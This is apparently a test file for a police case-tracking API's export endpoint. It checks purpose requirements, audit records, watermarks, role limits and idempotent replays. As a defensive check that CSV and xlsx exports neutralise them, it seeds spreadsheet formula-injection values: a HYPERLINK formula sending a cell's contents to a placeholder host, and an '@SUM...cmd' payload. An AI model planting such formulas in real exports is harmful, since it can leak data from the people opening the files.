import { createHash } from 'node:crypto';
import { strFromU8, unzipSync } from 'fflate';
import { exportPurposes } from '@casetrail/contracts';
import { TestApi, type Who, actors, ago, problemIn, uncounted } from './testing/index.ts';
import { detainedSuspect, filing, identifiedGroup, openCase, receivedLead, report, servedRecommendation } from './testing/stories.ts';

const exports = '/v1/exports';
const formula = '=HYPERLINK("http://x.invalid/"&A1,"案卷")';
let api: TestApi;
let file: string;
beforeAll(async () => {
  api = await TestApi.start({ edge: { ...uncounted, exportRows: 20 } });
  await api.openLedger('demo');
  file = await openCase(api);
  await detainedSuspect(api, file);
  const { stream } = await api.recorded('/v1/criminal-cases', { ...report(), reportNumber: formula }, { as: 'investigator' });
  await api.recorded(`/v1/criminal-cases/${stream}/file`, { ...filing(), leadAgency: '@SUM(1+1)*cmd' });
  await identifiedGroup(api);
  await servedRecommendation(api, file);
  await receivedLead(api);
  await api.catchUp();
});
afterAll(() => api.stop());

type Asked = { readonly as?: Who; readonly key?: string };
/** Posts, and keeps the bytes: a workbook is no text. */
async function write(body: object, { as = 'leader', key = crypto.randomUUID() }: Asked = {}) {
  const headers = { ...api.bearer(as), 'content-type': 'application/json', 'idempotency-key': key };
  const { statusCode: status, headers: answered, rawPayload: bytes } = await api.app.inject({ method: 'POST', url: exports, headers, payload: body });
  return { status, headers: answered as Record<string, string>, bytes, text: bytes.toString(), body: status >= 400 ? JSON.parse(bytes.toString()) : undefined };
}
const cases = { what: 'cases', format: 'csv', purpose: 'CASE_HANDLING' } as const;
const recorded = async () => (await api.owner.query('select * from access.exports order by made_at')).rows;
const linesOf = (text: string) => text.split('\r\n').slice(0, -1);

describe('an export', () => {
  it('without a purpose is refused, and nothing is recorded', async () => {
    const { purpose: _, ...without } = cases;
    const before = await recorded();
    expect(problemIn(await write(without))).toMatchObject({ status: 400, code: 'export/purpose-required' });
    expect(problemIn(await api.post(exports, {}))).toMatchObject({ status: 400, code: 'export/purpose-required' });
    expect(await recorded()).toEqual(before);
  });
  it.each([
    ['a purpose that is not listed', { ...cases, purpose: 'CURIOSITY' }, 'purpose'],
    ['a list that there is not', { ...cases, what: 'persons' }, 'what'],
    ['a filter of another list', { ...cases, filters: { tier: 'GANG' } }, 'filters.tier'],
    ['a page', { ...cases, filters: { limit: 5 } }, 'filters.limit'],
    ['a form that there is not', { ...cases, format: 'xlsm' }, 'format'],
    ['a figure that there is not', { ...cases, what: 'facts', figure: 'F99' }, 'figure'],
  ])('of %s is refused', async (_, body, path) => {
    const before = await recorded();
    expect(problemIn(await write(body))).toMatchObject({ code: 'request/invalid', errors: [expect.objectContaining({ path })] });
    expect(await recorded()).toEqual(before);
  });
  it('is recorded with who has it, what for, and the hash of the file', async () => {
    const { status, headers, bytes, text } = await write({ ...cases, recipient: 'the procuratorate', filters: { district: '370202' } });
    expect([status, headers['content-type'], headers['x-content-type-options']]).toEqual([200, 'text/csv; charset=utf-8', 'nosniff']);
    expect(headers['content-disposition']).toMatch(/^attachment; filename="casetrail-cases-\d{8}T\d{6}Z\.csv"$/);
    const sha256 = createHash('sha256').update(bytes).digest();
    expect(headers['repr-digest']).toBe(`sha-256=:${sha256.toString('base64')}:`);
    const rows = linesOf(text).length - 2;
    expect([rows, headers['casetrail-rows']]).toEqual([2, '2']);
    expect((await recorded()).at(-1)).toMatchObject({
      id: headers['casetrail-export'],
      user_name: actors.leader.user,
      role: actors.leader.role,
      org: actors.leader.org,
      what: 'cases',
      asked: { what: 'cases', filters: { district: '370202' } },
      purpose: 'CASE_HANDLING',
      recipient: 'the procuratorate',
      rows: 2,
      sha256,
    });
  });
  it('is a look, too, at every record in it', async () => {
    const { headers } = await write(cases);
    const { rows } = await api.owner.query("select * from access.looks where action = 'export.write' and detail ->> 'export' = $1", [
      headers['casetrail-export'],
    ]);
    expect(rows).toEqual([expect.objectContaining({ user_name: 'lead-1', purpose: 'CASE_HANDLING', outcome: 'SHOWN', request_id: headers['x-request-id'] })]);
    expect(rows[0].detail.shown).toEqual(expect.arrayContaining([file]));
    expect(rows[0].detail.shown).toHaveLength(2);
  });
  it('says who has it, when, in which office, what for and where the ledger stood, and names nobody else', async () => {
    const { text, headers } = await write({ ...cases, recipient: 'the procuratorate' });
    const { position } = await api.ledger.head();
    const [watermark] = linesOf(text);
    expect(watermark).toMatch(/^"# for programs, not for spreadsheets; data: synthetic data 虚构演示数据; export: [\w-]{36}; made at: 20[\dT:.-]+Z; /);
    expect(watermark).toContain(`by: lead-1; office: POLICE_LEADER@psb-370202; purpose: CASE_HANDLING; ledger position: ${position}; rows: 2"`);
    expect(watermark).toContain(headers['casetrail-export']);
    for (const { user } of Object.values(actors)) if (user !== 'lead-1') expect(watermark).not.toContain(user);
    expect(watermark).not.toContain('procuratorate');
  });
  it('as CSV holds no formula', async () => {
    const { text } = await write(cases);
    expect(text).toContain(`"'${formula.replaceAll('"', '""')}"`);
    expect(text).toContain(`"'@SUM(1+1)*cmd"`);
  });
  it('as a workbook holds the same as text, and the marks on a sheet of its own', async () => {
    const { bytes, headers } = await write({ ...cases, format: 'xlsx' });
    expect(headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const parts = Object.fromEntries(Object.entries(unzipSync(bytes)).map(([name, part]) => [name, strFromU8(part)]));
    expect(Object.values(parts).join('')).not.toMatch(/<f[ >/]/);
    for (const said of ['=HYPERLINK(', '@SUM(1+1)*cmd', 'synthetic data 虚构演示数据', 'POLICE_LEADER@psb-370202'])
      expect(Object.values(parts).join('')).toContain(said.replaceAll('"', '&#34;'));
    expect(Object.keys(parts)).toEqual(expect.arrayContaining(['xl/worksheets/sheet1.xml', 'xl/worksheets/sheet2.xml']));
  });

  it.each([
    [{ what: 'groups' }, '/v1/crime-groups', 'items'],
    [{ what: 'corrections' }, '/v1/corrections', 'items'],
    [{ what: 'records', category: 'recommendation' }, '/v1/recommendations', 'items'],
    [{ what: 'cases', filters: { text: 'HYPERLINK' } }, '/v1/criminal-cases?text=HYPERLINK', 'items'],
    [{ what: 'cases', filters: { isCracked: true } }, '/v1/criminal-cases?isCracked=true', 'items'],
    [{ what: 'facts', figure: 'F05', filters: { asOf: ago(0) } }, `/v1/figures/F05/facts?asOf=${ago(0)}`, 'facts'],
  ])('of %j has the rows of its list', async (what, url, items) => {
    const { status, text } = await write({ ...cases, ...what });
    const listed = (await api.get(url, { as: 'leader' })).body[items] as unknown[];
    expect([status, linesOf(text).length - 2]).toEqual([200, listed.length]);
  });
  it('of figures is too long here, and is told so', async () => {
    const before = await recorded();
    expect(problemIn(await write({ ...cases, what: 'figures' }))).toMatchObject({
      status: 409,
      code: 'export/too-many-rows',
      detail: expect.stringContaining('20 rows'),
    });
    expect(await recorded()).toEqual(before);
  });
  it('shows nobody what the list does not', async () => {
    const leads = { ...cases, what: 'records', category: 'umbrella_lead' };
    expect(problemIn(await write(leads))).toMatchObject({ status: 403, code: 'role/not-allowed' });
    expect(linesOf((await write(leads, { as: 'inspector' })).text)).toHaveLength(3);
    const facts = (await api.get(`/v1/figures/F17/facts?asOf=${ago(0)}`, { as: 'leader' })).body as {
      readonly facts: unknown[];
      readonly isSuppressed?: boolean;
    };
    const { text } = await write({ ...cases, what: 'facts', figure: 'F17', filters: { asOf: ago(0) } });
    expect([linesOf(text).length - 2, text.includes('withheld: ')]).toEqual([facts.facts.length, facts.isSuppressed === true]);
  });
  it('is for whoever reads the list, and holds what they reach of it', async () => {
    expect(problemIn(await write(cases, { as: 'statistician' }))).toMatchObject({ status: 403, code: 'role/not-allowed' });
    const listed = (await api.get('/v1/criminal-cases', { as: 'clerk' })).body.items as unknown[];
    expect(linesOf((await write(cases, { as: 'clerk' })).text)).toHaveLength(listed.length + 2);
  });
  it('takes a purpose for every thing that files are for', async () => {
    for (const purpose of exportPurposes) expect((await write({ ...cases, purpose })).status).toBe(200);
  });
});

describe('the same request again', () => {
  it('has the same file, and is one export', async () => {
    for (const format of ['csv', 'xlsx']) {
      const body = { ...cases, format };
      const first = await write(body, { key: `again-${format}` });
      const before = await recorded();
      const second = await write(body, { key: `again-${format}` });
      expect(second.bytes.equals(first.bytes)).toBe(true);
      expect([first.headers['idempotent-replayed'], second.headers['idempotent-replayed']]).toEqual([undefined, 'true']);
      expect(await recorded()).toEqual(before);
    }
  });
  it('that says something else is refused', async () => {
    await write(cases, { key: 'other' });
    for (const body of [
      { ...cases, purpose: 'AUDIT' },
      { ...cases, recipient: 'x' },
      { ...cases, format: 'xlsx' },
    ])
      expect(problemIn(await write(body, { key: 'other' }))).toMatchObject({ status: 422, code: 'idempotency/key-reused' });
  });
  it('is one export where it comes ten times at once', async () => {
    const answers = await Promise.all(Array.from({ length: 10 }, () => write(cases, { key: 'at-once' })));
    expect(new Set(answers.map(({ status, text }) => `${status} ${text}`)).size).toBe(1);
    expect(answers.filter(({ headers }) => headers['idempotent-replayed'] === undefined)).toHaveLength(1);
    expect((await recorded()).filter(({ id }) => id === answers[0]!.headers['casetrail-export'])).toHaveLength(1);
  });
  it('gives no other file than the one that was recorded', async () => {
    await write(cases, { key: 'moved' });
    await openCase(api);
    await api.catchUp();
    expect(problemIn(await write(cases, { key: 'moved' }))).toMatchObject({ status: 409, code: 'export/moved-on' });
    expect((await write(cases, { key: 'moved-anew' })).status).toBe(200);
  });
});

describe('what is recorded', () => {
  it('comes first: where it cannot be recorded there is no file', async () => {
    await api.owner.query('revoke insert on access.exports from casetrail_api');
    const { status, text, headers, body } = await write(cases, { key: 'unrecorded' });
    await api.owner.query('grant insert on access.exports to casetrail_api');
    expect([status, body.code]).toEqual([503, 'look/not-recorded']);
    expect(text).not.toContain('HYPERLINK');
    expect(headers['retry-after']).toBe('1');
    expect((await write(cases, { key: 'unrecorded' })).status).toBe(200);
  });
  it.each(['update access.exports set purpose = purpose', 'delete from access.exports', 'truncate access.exports'])('stays: %s', async (sql) =>
    expect(api.owner.query(sql)).rejects.toThrow('access.exports keeps what was in it'),
  );
});
